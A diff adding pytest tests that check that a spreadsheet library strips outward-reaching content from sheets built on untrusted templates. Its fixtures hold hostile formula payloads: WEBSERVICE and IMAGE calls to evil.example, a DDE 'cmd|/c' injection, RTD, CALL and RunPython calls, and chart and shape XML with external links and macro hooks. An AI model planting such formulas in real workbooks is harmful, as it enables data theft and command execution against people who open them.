@@ -9,6 +9,7 @@ import tracemalloc
 import zlib
 from collections.abc import Callable
 from contextlib import closing
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -225,3 +226,67 @@ def test_a_form_made_from_a_stranger_s_template_fetches_nothing(tmp_path: Path) 
     assert b"blip" in drawing and b"rId" not in drawing
     assert not [part for part, data in parts.items() if b"evil.example" in data]
 
+
+
+_CHART = """<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart><c:plotArea><c:layout/><c:barChart>
+<c:barDir val="bar"/><c:ser><c:idx val="0"/><c:order val="0"/><c:tx><c:strRef><c:f>'\\\\evil.example\\[x.xlsx]S'!$A$1</c:f></c:strRef></c:tx>
+<c:cat><c:strRef><c:f>[1]S!$A$1:$A$9</c:f></c:strRef></c:cat><c:val><c:numRef><c:f>Sheet1!$A$1:$A$2</c:f></c:numRef></c:val></c:ser>
+</c:barChart></c:plotArea></c:chart></c:chartSpace>"""
+_SHAPE = """<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
+ xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+ xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart">
+<xdr:oneCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>
+<xdr:ext cx="9" cy="9"/><xdr:sp macro="[0]!evil_macro" textlink="[1]S!$A$1"><xdr:nvSpPr><xdr:cNvPr id="3" name="钮"/><xdr:cNvSpPr/></xdr:nvSpPr>
+<xdr:spPr/></xdr:sp><xdr:clientData/></xdr:oneCellAnchor>
+<xdr:oneCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>
+<xdr:ext cx="9" cy="9"/><xdr:graphicFrame macro="evil_macro"><xdr:nvGraphicFramePr><xdr:cNvPr id="4" name="图"/><xdr:cNvGraphicFramePr/>
+</xdr:nvGraphicFramePr><xdr:xfrm/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">
+<c:chart r:id="rId3"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>"""
+#: What fetches or runs something where a workbook is opened, in the rules that a sheet of a template hands on.
+_REACHING = (
+    "WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)=&quot;&quot;", "cmd|'/c evil.example'!A1", "[1]evil!$A$1", "'C:\\[evil.xlsx]S'!$A$1:$A$9",
+    "A1:[1]evil!B2", "RTD(&quot;evil.example&quot;,,1)", "_xlfn.IMAGE(&quot;http://evil.example/&quot;)", "CALL(&quot;evil&quot;,&quot;x&quot;,&quot;J&quot;)",
+    "RunPython(&quot;evil&quot;)", "INDIRECT(&quot;evil&quot;)",
+)
+
+
+def _with_rules(rules: str, checks: str) -> str:
+    held = f'<conditionalFormatting sqref="A1:B2">{rules}</conditionalFormatting><dataValidations>{checks}</dataValidations>'
+    return sheet_xml('<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>WEBSERVICE("http://evil.example/")</f><v>1</v></c></row>', held)
+
+
+def _made_from(template: Path) -> dict[str, bytes]:
+    """The parts of a workbook with a sheet made from a template."""
+    book = WorkbookFile.new()
+    held = Template(WorkbookFile.open(template).book, book.book, template)
+    apply_edits(book.book, [NewSheet("新", "表样", (RowCopy(1, {(1): (Decimal(1), None, None)}),), ())], lambda _: held)
+    book.save(template.with_name("新.xlsx"), backup=False)
+    return parts_of(template.with_name("新.xlsx"))
+
+
+@pytest.mark.parametrize("formula", _REACHING)
+def test_a_rule_of_a_stranger_s_template_reaches_nothing(formula: str, tmp_path: Path) -> None:
+    good = '<cfRule type="expression" priority="2"><formula>AND(A1&gt;0,JX_RATE(A1,B1)&lt;1)</formula></cfRule>'
+    scale = f'<cfRule type="iconSet" priority="3"><iconSet><cfvo type="formula" val="{formula}"/><cfvo type="num" val="9"/></iconSet></cfRule>'
+    rules = f'<cfRule type="expression" priority="1"><formula>{formula}</formula></cfRule>{good}{scale}'
+    checks = "".join(
+        f'<dataValidation type="list" sqref="A{row}"><formula1>{text}</formula1></dataValidation>'
+        for row, text in ((1, formula), (1, "&quot;优,良,中,差&quot;")))
+    parts = _made_from(hand_made(tmp_path / "表样.xlsx", _with_rules(rules, checks)))
+    (sheet,) = [data for name, data in parts.items() if b"JX_RATE" in data]
+    assert not [name for name, data in parts.items() if b"evil" in data or b"INDIRECT" in data or b"CALL" in data]
+    assert sheet.count(b"<cfRule") == 1 and sheet.count(b"<dataValidation ") == 1 and "优,良".encode() in sheet and b"[1]" not in sheet
+
+
+def test_shapes_and_charts_of_a_stranger_s_template_reach_nothing(tmp_path: Path) -> None:
+    def reach(parts: dict[str, bytes]) -> None:
+        reaching(parts)
+        chart = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
+        parts["xl/drawings/drawing9.xml"], parts["xl/charts/chart9.xml"] = _SHAPE.encode(), _CHART.encode()
+        parts["xl/drawings/_rels/drawing9.xml.rels"] = _RELATIONS.format(_ONE.format("rId3", "chart", "../charts/chart9.xml", "")).encode()
+        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+            b"</Types>", f'<Override PartName="/xl/charts/chart9.xml" ContentType="{chart}"/></Types>'.encode())
+
+    parts = _made_from(rewritten(hand_made(tmp_path / "表样.xlsx", sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>')), reach))
+    assert [name for name in parts if name.startswith("xl/charts/chart")] and [name for name in parts if name.startswith("xl/drawings/drawing")]
+    assert not [name for name, data in parts.items() if b"evil" in data or b"[1]" in data]
